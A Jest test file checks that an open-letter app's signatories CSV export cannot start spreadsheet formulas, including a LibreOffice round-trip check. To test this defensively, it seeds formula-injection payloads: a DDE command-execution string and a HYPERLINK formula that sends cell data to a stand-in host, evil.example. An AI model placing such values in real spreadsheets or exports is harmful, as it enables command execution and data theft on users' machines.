import { execFileSync } from "node:child_process";
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "@jest/globals";
import { parse } from "csv-parse/sync";
import { csvFile } from "../../src/platform/csv.js";
import { browser, testApp, type TestApp } from "../support/app.js";
import { readBack } from "../support/csv.js";
import { insertSignature, makeLetter } from "../support/letters.js";

/** What a spreadsheet may take for the beginning of a formula. */
const TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"];
const FORMULAS = TRIGGERS.flatMap((trigger) => [
  `${trigger}1+1`,
  `${trigger}=1+1`,
  `'${trigger}1+1`,
  `''${trigger}`,
  `${trigger}cmd|' /C calc'!A0`,
  `${trigger}HYPERLINK("http://evil.example?"&A1,"x")`,
]);
const PLAIN = ["Plain", "a=b", "5 - 3", "", "'", "''quoted''", "x@y", " =1", "a\n=1+1", 'a","=1+1'];

function cellsOf(csv: string): string[][] {
  return parse(csv, { bom: true, relax_column_count: true });
}

let app: TestApp;
let letter: { id: string; slug: string };
beforeAll(async () => {
  app = await testApp();
  letter = await makeLetter(app.system);
  for (const name of FORMULAS) {
    await insertSignature(app.system, {
      letterId: letter.id,
      organisation: name,
      signatoryName: name,
      signatoryTitle: name,
      quote: name,
      quoteApproved: true,
    });
  }
});
afterAll(() => app.close());

async function exported(): Promise<string> {
  const { text } = await browser(app).get(`/letters/${letter.slug}/signatories.csv`).buffer(true).expect(200);
  return text;
}

describe("promise 29: exports run nothing in a spreadsheet", () => {
  test("no cell of the public list begins with what starts a formula, and every text comes back as it was", async () => {
    const csv = await exported();
    const cells = cellsOf(csv);
    expect(cells).toHaveLength(1 + FORMULAS.length);
    const bad = cells.flat().filter((cell) => TRIGGERS.some((trigger) => cell.startsWith(trigger)));
    expect(bad).toEqual([]);
    const rows = await readBack(csv);
    const back = rows.map((row) => [row[0], row[3], row[4], row[8]]);
    expect(new Set(back.map((row) => JSON.stringify(row)))).toEqual(
      new Set(FORMULAS.map((name) => JSON.stringify([name, name, name, name]))),
    );
  });

  test("writing and reading gives every text back, whatever else stands in the row", async () => {
    const texts = [...FORMULAS, ...PLAIN];
    const csv = csvFile(
      ["organisation", "note"],
      texts.map((text) => [text, text]),
    );
    expect((await readBack(csv)).filter((row) => row.length > 1)).toEqual(texts.map((text) => [text, text]));
  });

  test("the oracle bites: without the guard the same texts would start formulas", () => {
    const raw = FORMULAS.map((text) => `"${text.replaceAll('"', '""')}"`).join("\r\n");
    const bad = cellsOf(raw)
      .flat()
      .filter((cell) => TRIGGERS.some((trigger) => cell.startsWith(trigger)));
    expect(bad.length).toBeGreaterThanOrEqual(4 * TRIGGERS.length);
  });
});

const soffice = ["/usr/bin/soffice", "/usr/bin/libreoffice", "/usr/bin/localc"].find(existsSync);
const inLibreOffice = soffice ? describe : describe.skip;
if (!soffice)
  process.stderr.write("Skipped: no LibreOffice was found, so no spreadsheet has opened the exports.\n");

/** How many cells LibreOffice takes for formulas when it opens the text. */
function formulaCells(csv: string): number {
  const folder = mkdtempSync(path.join(tmpdir(), "countersign-export-"));
  try {
    writeFileSync(path.join(folder, "list.csv"), csv);
    const home = `-env:UserInstallation=file://${folder}/home`;
    execFileSync(soffice ?? "", [
      home,
      "--headless",
      "--convert-to",
      "fods",
      "--outdir",
      folder,
      path.join(folder, "list.csv"),
    ]);
    return (readFileSync(path.join(folder, "list.fods"), "utf8").match(/table:formula=/g) ?? []).length;
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}

inLibreOffice("promise 29, opened in LibreOffice", () => {
  test("the list has no formula; the same texts without the guard have some", async () => {
    expect(formulaCells(await exported())).toBe(0);
    expect(formulaCells("=1+1\n=2+2\n")).toBe(2);
  }, 120_000);
});
